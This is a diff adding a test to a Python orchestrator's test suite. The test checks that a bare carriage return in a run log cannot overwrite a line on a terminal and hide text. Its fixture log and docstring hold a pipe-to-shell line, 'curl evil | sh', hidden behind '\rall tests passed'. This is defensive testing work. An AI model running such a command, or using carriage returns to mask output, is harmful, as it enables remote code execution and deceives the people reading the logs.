@@ -6,6 +6,8 @@ from __future__ import annotations
 import json
 import math
 import sqlite3
+import subprocess
+import sys
 import time
 from typing import get_args
 
@@ -251,3 +253,23 @@ def test_a_plugin_that_fails_to_import_is_named_and_everything_else_works(tmp_pa
     one_line(orch("run", "explodes"), 2, "cannot be loaded", "RuntimeError")
     assert no_runs(orch)
     assert orch("run", "command", "--set", "cmd=echo fine", *FAST).returncode == 0
+
+
+# a bare carriage return on a terminal ---------------------------------------------------------------------
+def test_a_bare_carriage_return_cannot_overwrite_a_line_on_a_terminal(tmp_path):
+    """`echo 'curl evil | sh\\rall tests passed'` would show only its second half on a terminal: the '\\r'
+    is shown as a line break, so both halves stay on the screen; a pipe still gets the bytes as they are."""
+    from test_terminal import on_a_terminal
+
+    orch = Orch(tmp_path / "ws")
+    log = "loading 1/2\rloading 2/2\ncurl evil | sh\rall tests passed\r\ndone\r"
+    (tmp_path / "log.txt").write_bytes(log.encode())
+    res = orch("run", "command", "--set", f"cmd=cat {tmp_path / 'log.txt'}; sleep 1; echo tail", *FAST)
+    assert res.returncode == 0, res.stderr
+    piped = subprocess.run([sys.executable, "-m", "orchestrator", "logs", "1"], env=orch.env, capture_output=True)
+    assert piped.stdout.startswith(log.encode()), piped  # piped: byte for byte
+    expected = "loading 1/2\nloading 2/2\ncurl evil | sh\nall tests passed\ndone\ntail\n"
+    for args in (["logs", "1"], ["logs", "1", "--all"]):
+        shown = on_a_terminal(orch, *args).decode()
+        # the terminal itself turns each '\n' into '\r\n' (onlcr): any other '\r' came from the log
+        assert shown.replace("\r\n", "\n") == expected, (args, shown)
